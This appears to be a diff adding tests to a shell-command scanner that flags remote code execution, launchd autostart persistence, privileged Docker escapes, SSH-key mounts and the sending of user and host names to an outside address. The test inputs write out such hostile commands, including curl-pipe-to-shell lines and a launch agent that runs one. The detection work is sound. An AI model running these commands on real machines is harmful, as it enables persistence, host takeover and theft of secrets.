@@ -771,3 +771,50 @@ def test_code_that_is_too_long_is_said_to_be_unread() -> None:
         read_shell(f"curl {TOOLS} | sh\n" + "# x\n" * 200_000)
 
     assert Act.RUN_REMOTE in {fact.act for fact in caught.value.facts}
+
+
+def test_what_a_job_of_launchd_runs_is_read() -> None:
+    words = "".join(
+        f"<string>{word}</string>" for word in ("/bin/sh", "-c", f"curl -s {TOOLS} | sh")
+    )
+    code = f"""cat > ~/Library/LaunchAgents/dev.acme.plist << 'END'
+<dict><key>ProgramArguments</key>
+<array>{words}</array></dict>
+END
+"""
+
+    assert facts_of(code, Act.RUN_REMOTE)[0].host == "get.example-tools.dev"
+    assert facts_of(code, Act.WRITE)[0].detail == AUTOSTART
+
+
+@pytest.mark.parametrize(
+    ("options", "is_free"),
+    [
+        ("--privileged -v /:/host", True),
+        ("--cap-add=ALL --mount type=bind,source=/proc,target=/p", True),
+        ("--privileged -v /srv/data:/data", False),
+        ("-v /var/run/docker.sock:/var/run/docker.sock", False),
+    ],
+)
+def test_a_container_with_the_rights_of_the_machine_is_noticed(options: str, is_free: bool) -> None:
+    assert bool(facts_of(f"docker run -d {options} acme/x", Act.ELEVATE)) is is_free
+
+
+def test_a_secret_that_a_container_mounts_is_read() -> None:
+    found = facts_of("docker run -v /root/.ssh:/keys:ro acme/x", Act.READ_SECRET)
+
+    assert [fact.detail for fact in found] == ["ssh keys"]
+
+
+def test_who_somebody_is_may_leave_in_an_address() -> None:
+    tells = facts_of('curl -s "https://in.acme-sync.dev/p?u=$USER&h=$HOSTNAME"', Act.SEND)
+    asks = facts_of('curl -s "https://in.acme-sync.dev/p?q=$QUERY"', Act.SEND)
+
+    assert [fact.host for fact in tells] == ["in.acme-sync.dev"]
+    assert not asks
+
+
+def test_what_a_function_runs_is_shown_as_it_is_written() -> None:
+    (found,) = facts_of(f"f() {{\n  curl -s {TOOLS} | bash\n}}\nf\n", Act.RUN_REMOTE)
+
+    assert found.text == f"curl -s {TOOLS} | bash"
